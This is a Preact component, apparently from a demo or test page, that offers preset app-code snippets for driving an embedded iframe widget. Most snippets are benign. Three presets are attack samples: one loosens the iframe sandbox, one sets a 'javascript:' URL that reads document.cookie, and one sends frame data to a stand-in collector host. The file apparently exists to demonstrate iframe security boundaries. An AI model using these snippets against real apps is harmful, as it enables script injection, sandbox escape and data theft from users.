import { useState } from "preact/hooks";
import type { AppBeside } from "./use-app.ts";

/** Programs to start from. */
const PROGRAMS: readonly { id: string; title: string; code: string }[] = [
  {
    id: "read",
    title: "Read it",
    code: "({ source: Iframe1.source, message: Iframe1.message, metadata: Iframe1.messageMetadata })",
  },
  { id: "hello", title: "Say hello", code: 'postWindowMessage({ hello: "frame" }, "Iframe1", "null")' },
  {
    id: "page",
    title: "Another page",
    code: 'Iframe1.setURL(new URL("/frames/report.html", appsmith.URL.fullPath).href)',
  },
  { id: "text", title: "Another text", code: 'Iframe1.setSrcDoc("<h1>Of the app</h1><p>App code wrote this.</p>")' },
  {
    id: "loosen",
    title: "Loosen the sandbox",
    code: '(Iframe1.sandbox = "allow-same-origin allow-scripts", "see its tokens")',
  },
  { id: "script", title: "A script as address", code: 'Iframe1.setURL("javascript:alert(document.cookie)")' },
  {
    id: "away",
    title: "Carry data away",
    code: 'Iframe1.setURL("https://collector.example/?read=" + Iframe1.title)',
  },
];

/** What an app does with the frame: code to run, once there is an app. */
export function AppForm({ app, onRun }: { app: AppBeside; onRun(code: string): void }) {
  const [code, setCode] = useState(PROGRAMS[0]!.code);
  return (
    <form
      class="card from-app"
      aria-label="From app code"
      onSubmit={(event) => {
        event.preventDefault();
        onRun(code);
      }}
    >
      <h2>From app code</h2>
      {app.state !== "running" ? (
        <>
          <p>An app in a jar can have this frame as its entity Iframe1. The page loads an engine for that.</p>
          <button
            type="button"
            class="control"
            data-testid="start-app"
            disabled={app.state === "starting"}
            onClick={() => void app.start()}
          >
            {app.state === "starting" ? "Starting" : "Start an app"}
          </button>
        </>
      ) : (
        <>
          <p>The frame is Iframe1 to it, whichever frame you choose.</p>
          <div class="programs">
            {PROGRAMS.map(({ id, title, code: chosen }) => (
              <button
                key={id}
                type="button"
                class="program"
                data-testid={`program-${id}`}
                aria-pressed={chosen === code}
                onClick={() => setCode(chosen)}
              >
                {title}
              </button>
            ))}
          </div>
          <textarea
            aria-label="App code"
            data-testid="app-code"
            rows={2}
            spellcheck={false}
            value={code}
            onInput={({ currentTarget: { value } }) => setCode(value)}
          />
          <button class="control control-main" data-testid="run-app">
            Run
          </button>
        </>
      )}
    </form>
  );
}
